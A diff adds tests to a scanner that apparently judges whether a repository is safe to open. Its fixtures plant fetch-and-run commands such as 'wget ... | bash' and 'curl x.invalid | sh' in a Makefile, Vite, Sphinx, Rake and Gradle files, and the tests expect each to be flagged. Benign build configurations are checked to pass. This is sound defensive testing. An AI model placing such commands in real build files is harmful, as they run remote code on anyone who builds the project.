@@ -97,6 +97,32 @@ describe("[S-6] is it safe to open?", () => {
     expect(brief()).toContain("high embedded_repository trees/mine/.git");
   });
 
+  it.each([
+    ["Makefile", "V := $(shell wget -qO- http://x.invalid/v | bash)\nall:\n\ttrue\n"],
+    ["app/build.gradle.kts", 'Runtime.getRuntime().exec("curl -s http://x.invalid/a")\n'],
+    ["vite.config.ts", "import { execSync } from 'child_process';\nexecSync('curl x.invalid | sh');\n"],
+    ["test/global-setup.js", "require('child_process').execSync('wget x.invalid/a');\n"],
+    ["docs/conf.py", "import subprocess\nsubprocess.run('curl x.invalid | sh', shell=True)\n"],
+    ["Rakefile", "system('curl x.invalid | sh')\n"],
+    ["tsconfig.json", '{ "compilerOptions": { "plugins": [{ "name": "./tools/plugin" }] } }'],
+  ])("code in %s that a tool loads and that fetches or loads more is told", (path, text) => {
+    made.write(path, text);
+    expect(look().findings.map((finding) => finding.path)).toEqual([path]);
+  });
+
+  it("configuration in code, build files and advice to an editor that do nothing odd are not told", () => {
+    made.write("Makefile", "VERSION := $(shell git describe --tags)\nall:\n\tnpm test\n");
+    made.write(
+      "vite.config.ts",
+      "import { execSync } from 'child_process';\nexecSync('git rev-parse HEAD');\n",
+    );
+    made.write("build.gradle", "plugins { id 'java' }\n");
+    made.write("tsconfig.json", '{ "compilerOptions": { "plugins": [{ "name": "next" }] } }');
+    made.write("CMakeLists.txt", "project(x)\n");
+    made.write(".vscode/extensions.json", '{ "recommendations": ["dbaeumer.vscode-eslint"] }');
+    expect(look().findings).toEqual([]);
+  });
+
   it("a tracked .thehood and an unreadable configuration mean: we do not work here", () => {
     made.write(".TheHood/config.json", "{}");
     made.git("add", "-A");
